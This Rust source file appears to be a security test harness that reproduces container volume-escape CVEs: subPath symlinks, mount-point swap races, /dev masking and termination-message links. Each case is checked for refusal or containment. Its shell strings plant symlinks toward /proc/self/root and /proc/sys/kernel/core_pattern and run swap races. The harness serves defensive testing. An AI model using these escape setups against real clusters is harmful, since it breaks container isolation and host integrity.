//! Escapes through volumes: links in place of mount points, sub-paths, devices and termination messages.

use serde_json::json;

use super::cases::{Attack, End, Setting, Variant, mount};

/// Links in a volume as its subPath (CVE-2017-1002101), and a folder that is swapped for a link while
/// containers that mount it start (CVE-2021-25741).
pub fn sub_paths(variant: Variant, setting: &Setting) -> Attack {
    let marker = &setting.marker;
    let plants = format!(
        "cd /data && ln -s {marker} absolute && ln -s ../../../../../../../../../../../..{marker} relative && \
         ln -s /proc/self/root{marker} magic && ln -s ../../../.. pods && mkdir swapped && ln -s {marker} link"
    );
    let data = json!({"volumeMounts": [mount("data", "/data")]});
    let sub_path =
        |path: &str| json!({"volumeMounts": [{"name": "data", "mountPath": "/sub", "subPath": path}]});
    let mut attack = Attack::new("subpath", variant, setting).volume("data").prepares(&plants, data.clone());
    for (name, path) in
        [("absolute", "absolute"), ("relative", "relative"), ("magic", "magic"), ("pods", "pods")]
    {
        let end = End::Refused("not within volume path");
        attack = attack.attacks_with(name, "look", "/sub", end, sub_path(path));
    }
    attack =
        attack.stays("swaps", &format!("exec attack swap swaps {marker} /data/swapped /data/link"), data);
    for number in 0..setting.tries {
        let name = format!("race-{number}");
        attack = attack.attacks_with(&name, "look", "/sub", End::Contained("looked"), sub_path("swapped"));
    }
    attack
}

/// A mount point in a volume that is swapped for a link while containers start (CVE-2021-30465).
pub fn mount_points(variant: Variant, setting: &Setting) -> Attack {
    let marker = &setting.marker;
    let plants =
        format!("cd /data && mkdir -p swapped{marker} fixed && ln -s / link && ln -s {marker} still");
    let data = json!({"volumeMounts": [mount("data", "/data")]});
    let mut attack = Attack::new("mounts", variant, setting)
        .volume("data")
        .volume("other")
        .prepares(&plants, data.clone())
        .stays("swaps", &format!("exec attack swap swaps {marker} /data/swapped /data/link"), data);
    let two = |path: &str| json!({"volumeMounts": [mount("data", "/data"), mount("other", path)]});
    attack =
        attack.attacks_with("link", "look", "/data/still", End::Contained("looked"), two("/data/still/x"));
    for number in 0..setting.tries {
        let fields = two(&format!("/data/swapped{marker}"));
        let name = format!("race-{number}");
        let below = "/data /data/swapped /data/link";
        attack = attack.attacks_with(&name, "look", below, End::Contained("looked"), fields);
    }
    attack
}

/// A volume at /dev that replaces the file that covers masked files (CVE-2025-31133) and the console
/// (CVE-2025-52565).
pub fn devices(variant: Variant, setting: &Setting) -> Attack {
    let marker = &setting.marker;
    let target = "/proc/sys/kernel/core_pattern";
    let plants = format!(
        "for name in null console ptmx tty stdin; do ln -s {target} /planted/$name; done; ln -s /proc/self/fd /planted/pts; \
         ln -s {marker} /planted/shm; ln -s {target} /console/console; ln -s {target} /swapped/link; touch /swapped/null"
    );
    let volumes = ["planted", "console", "swapped"];
    let own: Vec<_> = volumes.iter().map(|name| mount(name, &format!("/{name}"))).collect();
    let at_dev = |volume: &str, tty: bool| json!({"volumeMounts": [mount(volume, "/dev")], "tty": tty});
    let mut attack = Attack::new("dev", variant, setting);
    for volume in volumes {
        attack = attack.volume(volume);
    }
    attack = attack
        .prepares(&plants, json!({"volumeMounts": own}))
        .attacks_with("planted", "masked", "", End::Contained("looked"), at_dev("planted", false))
        .attacks_with("terminal", "masked", "", End::Refused(""), at_dev("planted", true))
        .attacks_with("console", "masked", "", End::Refused("/dev/console"), at_dev("console", true))
        .stays(
            "swaps",
            &format!("exec attack swap swaps {marker} /swapped/null /swapped/link"),
            json!({"volumeMounts": [mount("swapped", "/swapped")]}),
        );
    for number in 0..setting.tries {
        let name = format!("race-{number}");
        attack = attack.attacks_with(&name, "masked", "", End::Contained("looked"), at_dev("swapped", false));
    }
    attack
}

/// The file of the termination message as a link, as a pipe, and below a link.
pub fn messages(variant: Variant, setting: &Setting) -> Attack {
    let marker = &setting.marker;
    let plants = format!(
        "cd /data && ln -s {marker}/message link && mkfifo pipe && ln -s {marker} folder && \
         ln -s /proc/sys/kernel/core_pattern kernel"
    );
    let mut attack = Attack::new("message", variant, setting)
        .volume("data")
        .prepares(&plants, json!({"volumeMounts": [mount("data", "/data")]}));
    for (name, path) in
        [("link", "link"), ("pipe", "pipe"), ("folder", "folder/message"), ("kernel", "kernel")]
    {
        let path = format!("/data/{path}");
        let fields = json!({"volumeMounts": [mount("data", "/data")], "terminationMessagePath": path});
        let script = format!("attack look message-{name} {marker} /data >{path}; rm -f {path}; exit 0");
        let command = json!(["/bin/sh", "-c", script]);
        attack = attack.runs(name, &command, End::Contained("looked"), fields);
    }
    attack
}
